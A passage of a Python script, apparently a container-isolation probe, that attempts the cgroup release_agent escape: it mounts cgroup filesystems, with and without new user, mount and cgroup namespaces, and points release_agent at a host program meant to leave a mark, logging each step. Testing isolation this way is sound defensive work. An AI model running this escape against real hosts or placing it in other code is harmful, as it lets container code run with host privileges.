# release_agent: a program that the kernel of the host would run.
# Argument: a program on the host that leaves a mark.
agent = sys.argv[1]
CGROUP_MAGIC = 0x27E0EB


class statfs(ctypes.Structure):
    _fields_ = [("type", ctypes.c_long), ("rest", ctypes.c_long * 31)]


def is_cgroup(path):
    s = statfs()
    checked(libc.statfs, path.encode(), ctypes.byref(s))
    return s.type == CGROUP_MAGIC


def trigger(where, top):
    """Sets the agent and empties a group, which is when it would run."""
    if not is_cgroup(top):
        say(where + " release_agent", "not a cgroup file system")
        return
    attempt(where + " release_agent", write, top + "/release_agent", agent)
    group = top + "/x"
    attempt(where + " mkdir", os.mkdir, group)
    attempt(where + " notify_on_release", write, group + "/notify_on_release", "1")
    pid = os.fork()
    if pid == 0:
        attempt(where + " enter", write, group + "/cgroup.procs", str(os.getpid()))
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.2)
    attempt(where + " rmdir", os.rmdir, group)


def attack(where):
    if attempt(where + " mount cgroup", mount, "c", "/mnt", "cgroup", 0, "memory") is not None:
        trigger(where + " own mount", "/mnt")
    if os.path.isdir("/sys/fs/cgroup"):
        trigger(where + " /sys/fs/cgroup", "/sys/fs/cgroup")


def unshared():
    attempt("unshare", unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)
    attack("unshared cgroup")
    end()


def unshared_less():
    if attempt("unshare user and mount", unshare, CLONE_NEWUSER | CLONE_NEWNS) is not None:
        become_root()
        # With the rights of a new user namespace a tmpfs can be had or not;
        # that is what the guest's kernel says, not the host's.
        attempt("mount tmpfs in a user namespace", mount, "t", "/mnt", "tmpfs")
    attack("unshared")


attack("plain")
in_child(unshared_less)
in_child(unshared)
